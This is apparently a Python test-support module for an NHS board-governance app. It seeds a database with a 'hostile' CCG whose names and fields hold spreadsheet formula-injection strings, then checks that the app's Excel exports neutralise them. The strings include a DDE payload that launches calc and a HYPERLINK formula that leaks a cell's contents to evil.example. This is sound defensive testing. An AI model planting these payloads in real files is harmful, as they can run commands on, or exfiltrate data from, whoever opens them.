"""NHS Hostile CCG (98H): every text field the exports show holds text a spreadsheet would read as a formula.

Written as the owner (the API trims or checks some of these fields; the exports must be safe whatever is
stored), in a CCG of its own so the demo's names stay as the other tests expect them.
"""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook

from tests.support import DEMO, owner

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PLUS, MINUS, AT = "+1", "-2+3", "@SUM(A1)"
TAB, RETURN = "\tTab-led text", "\rReturn-led text"
CORPUS = (CALC, LINK, PLUS, MINUS, AT, TAB, RETURN)

ODS = "98H"
NAME = f"{LINK} CCG"
COMMITTEE = f"{CALC} governing body"
LOCALITY = f"{TAB} locality"
SECRETARY = f"hostile.secretary@{DEMO}"
SECRETARY_NAME = f"{AT} Secretary"
# (ODS code, practice name, list size, representative's email, representative's name)
PRACTICES = [
    (f"Y98{n:03d}", name, 1000 * (n + 1), f"hostile.rep{n}@{DEMO}", rep)
    for n, (name, rep) in enumerate(zip((CALC, LINK, PLUS, MINUS, AT), (MINUS, PLUS, RETURN, CALC, LINK)))
]
REVOCATION = f"{RETURN} reason"


async def create() -> None:
    conn = await owner()
    try:
        async with conn.transaction():
            if await conn.fetchval("SELECT 1 FROM organisation WHERE ods_code = $1", ODS):
                return
            area_team = await conn.fetchval("SELECT id FROM organisation WHERE ods_code = 'Q46'")
            ccg = await conn.fetchval(
                "INSERT INTO organisation (kind, ods_code, name, area_team_id) VALUES ('CCG', $1, $2, $3) RETURNING id",
                ODS,
                NAME,
                area_team,
            )
            secretary = await _person(conn, ccg, SECRETARY, SECRETARY_NAME, ["BOARD_SECRETARY", "ADMINISTRATOR"], None)
            for ods, name, size, email, rep in PRACTICES:
                practice = await conn.fetchval(
                    "INSERT INTO practice (org_id, ods_code, name, list_size, locality) VALUES ($1, $2, $3, $4, $5) RETURNING id",
                    ccg,
                    ods,
                    name,
                    size,
                    LOCALITY,
                )
                await _person(conn, ccg, email, rep, ["PRACTICE_REPRESENTATIVE"], practice)
            committee = await conn.fetchval(
                "UPDATE committee SET name = $2 WHERE org_id = $1 AND kind = 'GOVERNING_BODY' RETURNING id",
                ccg,
                COMMITTEE,
            )
            await conn.execute(
                "INSERT INTO delegation (org_id, receiving_org_id, receiving_committee_id, functions, scope_ccg_ids,"
                " valid_from, valid_to, recorded_by, revoked_at, revoked_by, revocation_reason)"
                " VALUES ($1, $2, $3, '{primary_care.mergers}', ARRAY[$2::uuid], '2025-04-01', '2027-03-31', $4,"
                " '2026-01-15 12:00+00', $4, $5)",
                area_team,
                ccg,
                committee,
                secretary,
                REVOCATION,
            )
    finally:
        await conn.close()


async def _person(conn, ccg, email: str, name: str, roles: list[str], practice) -> object:
    person = await conn.fetchval("INSERT INTO person (email, name) VALUES ($1, $2) RETURNING id", email, name)
    await conn.execute("INSERT INTO person_registration (org_id, person_id) VALUES ($1, $2)", ccg, person)
    for role in roles:
        await conn.execute(
            "INSERT INTO membership (org_id, person_id, role, practice_id, valid_from) VALUES ($1, $2, $3, $4, '2025-01-01')",
            ccg,
            person,
            role,
            practice,
        )
    return person


def cells(content: bytes) -> list:
    """Every cell of every sheet, read back by openpyxl as a spreadsheet program would see them."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def same_text(value: object) -> str:
    # XML turns a stored carriage return into a line feed as it is read; either is harmless at the start.
    return str(value).replace("\r", "\n")


def assert_safe(content: bytes, expected: list[str]) -> list:
    """No formula anywhere; each expected text is in a text cell, exactly, quote-prefixed if formula-like."""
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    texts = {same_text(c.value): c for c in found if isinstance(c.value, str)}
    for text in expected:
        cell = texts.get(same_text(text))
        assert cell is not None, f"{text!r} is not in the export"
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type, cell.quotePrefix)
    return found


def numbers_stay_numbers(found: list, *values: int | float | date) -> None:
    typed = {c.value for c in found if not isinstance(c.value, str)}
    for value in values:
        assert value in typed, f"{value!r} is not a typed cell"
